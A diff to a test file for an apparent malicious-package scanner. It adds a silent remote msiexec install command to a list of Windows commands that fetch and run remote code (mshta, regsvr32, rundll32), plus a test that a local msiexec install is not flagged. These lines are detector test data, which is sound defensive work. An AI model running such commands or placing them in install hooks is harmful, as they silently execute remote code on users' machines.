@@ -223,10 +223,16 @@ def test_a_benchmark_that_mentions_hashing_is_not_a_miner():
     "mshta https://cdn.example/u.hta",
     "regsvr32 /s /n /u /i:https://cdn.example/file.sct scrobj.dll",
     "rundll32.exe javascript:\"\\..\\mshtml,RunHTMLApplication \";alert(1)",
+    "msiexec.exe /q /i \"http://203.0.113.9/fc/helper.msi\" /norestart",
 ])
 def test_windows_script_hosts_running_remote_code(command):
     found = findings(artifact({"preinstall": command}))
     assert "install-script/remote-script" in {f.rule for f in found} and decide(found).level is Level.MALICIOUS
+
+
+def test_msiexec_of_a_local_package_is_not_remote_code():
+    found = findings(artifact({"postinstall": "msiexec /i vendor\\tool.msi /qn"}))
+    assert "install-script/remote-script" not in {f.rule for f in found}
 
 
 def test_inline_code_that_checks_one_named_variable_is_not_dangerous():
